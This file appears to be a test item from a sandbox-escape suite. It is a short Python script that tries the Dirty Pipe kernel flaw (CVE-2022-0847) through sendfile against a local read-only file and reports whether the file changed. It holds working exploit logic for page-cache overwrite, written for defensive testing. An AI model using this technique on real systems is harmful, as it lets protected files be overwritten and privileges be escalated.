# id: escape/186
# technique: Dirty Pipe by sendfile, which moves pages into a pipe as splice does
# family: pipe
# attacks: no-host-files
# context: job
# reaches: the interpreter's files in the page cache, for all runs
# expect: verdict denied
# must-not: a file changed that was opened for reading
# control: none: it gets through only on a kernel that has the fault, and outside it is the same
#   kernel
# seen-in: CVE-2022-0847
import fcntl
import json
import os


def say(reached, detail, absent=False):
    verdict = "REACHED" if reached else "DENIED"
    line = {"id": "escape/186", "verdict": verdict, "absent": absent, "detail": str(detail)[:300]}
    print(json.dumps(line), flush=True)


with open("seven", "w") as one:
    one.write("7 bytes")
source = os.open("seven", os.O_RDONLY)
reader, writer = os.pipe()

# Fill and empty it, so that every slot may be appended to on a kernel that has the fault.
size = fcntl.fcntl(writer, 1032)
os.write(writer, b"a" * size)
os.read(reader, size)
try:
    sent = os.sendfile(writer, source, 0, 1)
except OSError as error:
    sent = error.errno
os.write(writer, b"X")
with open("seven") as one:
    text = one.read()
say(text != "7 bytes", "sent or errno %d, the file holds %r" % (sent, text))
